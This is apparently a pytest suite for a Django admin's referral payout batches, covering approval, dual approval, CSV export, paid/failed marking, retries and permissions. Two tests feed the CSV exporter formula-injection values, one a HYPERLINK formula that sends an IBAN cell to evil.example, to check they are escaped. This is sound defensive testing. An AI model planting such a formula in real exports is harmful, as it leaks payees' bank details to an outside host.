"""Payout batches in the admin: build, review, approve (password; a second manager above the
limit), execute, the manual backend's CSV, mark paid or failed, retry, cancel."""

import csv
import io

import pytest
from django.urls import reverse

from advocacy.models import Advocate
from referrals.ledger_selectors import balance, payable_balance
from referrals.models import AuditEvent, Commission, FraudSignal, Payout, PayoutBatch
from tests.factories import PASSWORD, AdvocateFactory, UserFactory

from .conftest import messages_of

pytestmark = pytest.mark.django_db

BATCHES = reverse("payouts:index")
BUILD = reverse("payouts:build")


def review_url(batch):
    return reverse("payouts:inspect", args=[batch.pk])


def build(client, programme, backend="manual"):
    response = client.post(BUILD, {"programme": programme.pk, "backend": backend})
    assert response.status_code == 302, response.content.decode()[-2000:]
    return PayoutBatch.objects.latest("pk")


def approve(client, batch, password=PASSWORD):
    return client.post(reverse("payouts:approve", args=[batch.pk]), {"password": password})


def fresh(obj):
    return type(obj).objects.get(pk=obj.pk)


@pytest.fixture
def paid_advocate(programme):
    return AdvocateFactory(
        programme=programme,
        user__first_name="Anna",
        user__last_name="Lind",
        payout_method=Advocate.PayoutMethod.BANK,
        payout_details={"account_holder": "Anna Lind", "iban": "DE89370400440532013000"},
    )


def test_build_review_approve_execute_export_and_mark_paid(
    client, manager, programme, paid_advocate, approved_sale
):
    first = approved_sale(advocate=paid_advocate, gross=20000)
    second = approved_sale(advocate=paid_advocate, gross=5000)

    assert client.get(BUILD).status_code == 200
    batch = build(client, programme)
    assert (batch.status, batch.total_amount, batch.payout_count) == ("draft", 2500, 1)
    assert batch.created_by == manager

    review = client.get(review_url(batch))
    page = review.content.decode()
    assert review.status_code == 200
    assert "€25.00" in page
    assert paid_advocate.user.email in page
    assert "Bank transfer" in page
    assert "DE89370400440532013000" not in page
    assert "Awaiting approval" in page

    wrong = approve(client, batch, password="not-my-password")
    assert wrong.status_code == 200
    assert wrong.context["approve_form"].errors["password"] == ["That password is not right."]
    assert fresh(batch).status == "draft"
    assert fresh(batch).approved_by is None

    right = approve(client, batch)
    assert right.status_code == 302
    assert right["Location"] == review_url(batch)
    assert fresh(batch).status == "approved"
    assert fresh(batch).approved_by == manager

    executed = client.post(reverse("payouts:execute", args=[batch.pk]))
    assert executed.status_code == 302
    assert fresh(batch).status == "executing"
    assert "Download CSV" in client.get(review_url(batch)).content.decode()

    export = client.get(reverse("payouts:csv", args=[batch.pk]))
    assert export.status_code == 200
    assert export["Content-Type"].startswith("text/csv")
    assert f"payout-batch-{batch.pk}-EUR.csv" in export["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    payout = batch.payouts.get()
    assert rows[0] == [
        "payout_id",
        "advocate_name",
        "email",
        "amount",
        "currency",
        "payout_method",
        "account",
        "reference",
    ]
    assert rows[1:] == [
        [
            str(payout.pk),
            "Anna Lind",
            paid_advocate.user.email,
            "25.00",
            "EUR",
            "bank",
            "DE89370400440532013000",
            f"Streetteam payout {payout.pk}",
        ]
    ]
    assert AuditEvent.objects.filter(action="batch_exported", actor=manager).exists()

    paid = client.post(
        reverse("payouts:payout_paid", args=[payout.pk]), {"reference": "SEPA-2026-11-0042"}
    )
    assert paid.status_code == 302
    assert paid["Location"] == f"{review_url(batch)}#payout-{payout.pk}"
    payout.refresh_from_db()
    assert (payout.status, payout.external_ref) == ("paid", "SEPA-2026-11-0042")
    assert fresh(batch).status == "done"
    assert {c.status for c in Commission.objects.filter(pk__in=[first.pk, second.pk])} == {"paid"}
    assert balance(paid_advocate, "EUR") == 0
    actions = set(AuditEvent.objects.filter(actor=manager).values_list("action", flat=True))
    assert {"batch_built", "batch_approved", "batch_executed", "payout_paid"} <= actions

    done = client.get(review_url(batch)).content.decode()
    assert "1</strong> paid" in done
    assert "100% settled" in done


def test_marking_paid_needs_a_bank_reference(client, manager, programme, approved_sale):
    approved_sale(gross=30000)
    batch = build(client, programme)
    approve(client, batch)
    client.post(reverse("payouts:execute", args=[batch.pk]))
    payout = batch.payouts.get()

    response = client.post(reverse("payouts:payout_paid", args=[payout.pk]), {"reference": ""})

    assert response.status_code == 302
    assert fresh(payout).status == "pending"
    assert any("required" in m for m in messages_of(response))


def test_dual_approval_needs_a_second_different_manager(
    client, manager, second_manager, programme, approved_sale
):
    programme.dual_approval_above = 2000
    programme.save()
    approved_sale(gross=30000)
    batch = build(client, programme)
    assert "a second manager must approve it too" in client.get(review_url(batch)).content.decode()

    first = approve(client, batch)
    batch = fresh(batch)
    assert first.status_code == 302
    assert (batch.status, batch.approved_by) == ("draft", manager)
    page = client.get(review_url(batch)).content.decode()
    assert "Awaiting second approval" in page
    assert "Awaiting second approval" in client.get(BATCHES).content.decode()

    again = approve(client, batch)
    assert again.status_code == 302
    assert any("A second manager" in m for m in messages_of(again))
    assert fresh(batch).status == "draft"
    assert fresh(batch).second_approved_by is None
    assert client.post(reverse("payouts:execute", args=[batch.pk])).status_code == 302
    assert fresh(batch).status == "draft"

    client.force_login(second_manager)
    second = approve(client, batch)
    batch = fresh(batch)
    assert second.status_code == 302
    assert (batch.status, batch.second_approved_by) == ("approved", second_manager)
    assert AuditEvent.objects.filter(action="batch_second_approval", actor=second_manager).exists()


def test_failed_payout_restores_the_balance_and_can_be_retried(
    client, manager, programme, paid_advocate, approved_sale
):
    approved_sale(advocate=paid_advocate, gross=30000)
    batch = build(client, programme)
    approve(client, batch)
    client.post(reverse("payouts:execute", args=[batch.pk]))
    payout = batch.payouts.get()
    assert payable_balance(paid_advocate, "EUR") == 0

    failed = client.post(
        reverse("payouts:payout_failed", args=[payout.pk]), {"reason": "IBAN closed"}
    )

    assert failed.status_code == 302
    payout.refresh_from_db()
    assert (payout.status, payout.failure_reason) == ("failed", "IBAN closed")
    assert payable_balance(paid_advocate, "EUR") == 3000
    assert fresh(batch).status == "done"
    assert AuditEvent.objects.get(action="payout_failed").reason == "IBAN closed"
    assert "Retry</button>" in client.get(review_url(batch)).content.decode()

    retried = client.post(reverse("payouts:payout_retry", args=[payout.pk]))

    assert retried.status_code == 302
    retry = Payout.objects.get(retry_of=payout)
    assert (retry.status, retry.amount, retry.batch_id) == ("pending", 3000, batch.pk)
    assert payable_balance(paid_advocate, "EUR") == 0
    assert fresh(batch).status == "executing"
    page = client.get(review_url(batch)).content.decode()
    assert f"retry of {payout.pk}" in page

    again = client.post(reverse("payouts:payout_retry", args=[payout.pk]))
    assert any("already retried" in m for m in messages_of(again))


def test_cancel_needs_a_reason_and_gives_balances_back(client, manager, programme, approved_sale):
    commission = approved_sale(gross=30000)
    batch = build(client, programme)
    assert payable_balance(commission.advocate, "EUR") == 0

    refused = client.post(reverse("payouts:cancel", args=[batch.pk]), {"reason": ""})
    assert refused.status_code == 200
    assert refused.context["cancel_form"].errors["reason"]
    assert fresh(batch).status == "draft"

    cancelled = client.post(reverse("payouts:cancel", args=[batch.pk]), {"reason": "Wrong month"})
    assert cancelled.status_code == 302
    assert fresh(batch).status == "cancelled"
    assert payable_balance(commission.advocate, "EUR") == 3000
    assert AuditEvent.objects.get(action="batch_cancelled").reason == "Wrong month"


def test_building_with_nothing_payable_explains_why(client, manager, programme, make_sale):
    make_sale()  # pending: not payable yet

    response = client.post(BUILD, {"programme": programme.pk, "backend": "manual"})

    assert response.status_code == 200
    assert "nothing to pay yet" in response.content.decode()
    assert not PayoutBatch.objects.exists()


def test_review_flags_fraud_signals_frozen_commissions_and_missing_details(
    client, manager, programme, approved_sale, make_sale
):
    commission = approved_sale(gross=30000)
    advocate = commission.advocate
    FraudSignal.objects.create(kind="self_referral", order=commission.order, advocate=advocate)
    frozen = make_sale(advocate=advocate)
    Commission.objects.filter(pk=frozen.pk).update(frozen=True)
    batch = build(client, programme)

    page = client.get(review_url(batch)).content.decode()

    assert "1 open fraud signal" in page
    assert "1 frozen commission" in page
    assert "No bank or PayPal details" in page


def test_csv_is_only_for_released_manual_batches(client, manager, programme, approved_sale):
    approved_sale(gross=30000)
    batch = build(client, programme)

    response = client.get(reverse("payouts:csv", args=[batch.pk]))

    assert response.status_code == 302
    assert response["Location"] == review_url(batch)


def test_csv_neutralises_spreadsheet_formulas(client, manager, programme, approved_sale):
    advocate = AdvocateFactory(
        programme=programme,
        payout_method=Advocate.PayoutMethod.PAYPAL,
        payout_details={"email": "anna@example.com"},
        user__first_name="=HYPERLINK(1)",
        user__last_name="",
    )
    approved_sale(advocate=advocate, gross=30000)
    batch = build(client, programme)
    approve(client, batch)
    client.post(reverse("payouts:execute", args=[batch.pk]))

    rows = list(
        csv.reader(
            io.StringIO(client.get(reverse("payouts:csv", args=[batch.pk])).content.decode())
        )
    )

    assert rows[1][1] == "'=HYPERLINK(1)"
    assert rows[1][5:7] == ["paypal", "anna@example.com"]


def test_bank_csv_writes_an_account_holders_formula_as_text_and_bank_fields_as_they_are(
    client, manager, programme, approved_sale
):
    holder = '=HYPERLINK("https://evil.example/?iban="&G2,"Confirm your payout")'
    advocate = AdvocateFactory(
        programme=programme,
        user__email="-2+3@example.com",
        payout_method=Advocate.PayoutMethod.BANK,
        payout_details={"account_holder": holder, "iban": "DE89370400440532013000"},
    )
    approved_sale(advocate=advocate, gross=30000)
    batch = build(client, programme)
    approve(client, batch)
    client.post(reverse("payouts:execute", args=[batch.pk]))

    body = client.get(reverse("payouts:csv", args=[batch.pk])).content.decode()
    row = dict(zip(*list(csv.reader(io.StringIO(body))), strict=True))

    assert row["advocate_name"] == "'" + holder
    assert row["email"] == "'-2+3@example.com"
    # What a bank import reads stays exactly as it is: the amount a number, the IBAN its digits.
    assert row["amount"] == "30.00"
    assert row["account"] == "DE89370400440532013000"
    assert row["reference"] == f"Streetteam payout {batch.payouts.get().pk}"


def test_staff_without_the_payout_permission_cannot_build_or_pay(
    client, support_user, programme, approved_sale
):
    approved_sale(gross=30000)

    listing = client.get(BATCHES)
    build_page = client.get(BUILD)
    built = client.post(BUILD, {"programme": programme.pk, "backend": "manual"})

    assert listing.status_code == 200
    assert "Build a batch" not in listing.content.decode()
    home = reverse("wagtailadmin_home")
    assert (build_page.status_code, build_page["Location"]) == (302, home)
    assert (built.status_code, built["Location"]) == (302, home)
    assert not PayoutBatch.objects.exists()


def test_staff_without_the_payout_permission_cannot_approve(
    client, manager, support_user, programme, approved_sale
):
    approved_sale(gross=30000)
    client.force_login(manager)
    batch = build(client, programme)
    support_user.set_password(PASSWORD)
    support_user.save()
    client.force_login(support_user)

    page = client.get(review_url(batch))
    response = approve(client, batch)

    assert page.status_code == 200
    assert "Approve batch" not in page.content.decode()
    assert any("permission" in m for m in messages_of(response))
    assert fresh(batch).status == "draft"
    assert fresh(batch).approved_by is None


def test_audit_log_links_from_a_batch_and_filters_by_batch(
    client, manager, programme, approved_sale
):
    approved_sale(gross=30000)
    batch = build(client, programme)
    approve(client, batch)
    client.post(reverse("payouts:execute", args=[batch.pk]))
    payout = batch.payouts.get()
    client.post(reverse("payouts:payout_paid", args=[payout.pk]), {"reference": "R1"})

    page = client.get(review_url(batch)).content.decode()
    log = client.get(reverse("audit_log:index"), {"batch": batch.pk})

    assert reverse("audit_log:index") + f"?batch={batch.pk}" in page
    actions = {e.action for e in log.context["object_list"]}
    assert {"batch_built", "batch_approved", "batch_executed", "payout_paid"} <= actions
    assert "commission_paid" not in actions
    redirect = client.get(reverse("payouts:payout", args=[payout.pk]))
    assert redirect["Location"] == f"{review_url(batch)}#payout-{payout.pk}"


def test_batch_listing_shows_batches_with_their_state(client, manager, programme, approved_sale):
    approved_sale(gross=30000)
    batch = build(client, programme)

    page = client.get(BATCHES).content.decode()

    assert f"Batch {batch.pk}" in page
    assert "Awaiting approval" in page
    assert "€30.00" in page
    assert "Build a batch" in page
    assert client.get(BATCHES, {"status": "done"}).context["object_list"].count() == 0


def test_a_second_user_cannot_approve_with_someone_elses_password(
    client, manager, programme, approved_sale
):
    approved_sale(gross=30000)
    batch = build(client, programme)
    other = UserFactory(is_staff=True, is_superuser=True, password="another-password-42")
    client.force_login(other)

    response = approve(client, batch, password=PASSWORD)

    assert response.status_code == 200
    assert fresh(batch).status == "draft"


def test_stripe_connect_batch_pays_in_the_background_and_shows_progress(
    client, manager, programme, approved_sale, fake_stripe, django_capture_on_commit_callbacks
):
    advocate = AdvocateFactory(
        programme=programme, stripe_account_id="acct_1Good", stripe_payouts_enabled=True
    )
    approved_sale(advocate=advocate, gross=30000)
    batch = build(client, programme, backend="stripe_connect")
    approve(client, batch)

    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("payouts:execute", args=[batch.pk]))

    [transfer] = fake_stripe.transfers
    payout = batch.payouts.get()
    assert payout.status == "paid"
    assert payout.external_ref == transfer["id"]
    assert fresh(batch).status == "done"
    page = client.get(review_url(batch)).content.decode()
    assert "1</strong> paid" in page
    assert "Download CSV" not in page
    assert client.get(reverse("payouts:csv", args=[batch.pk])).status_code == 302
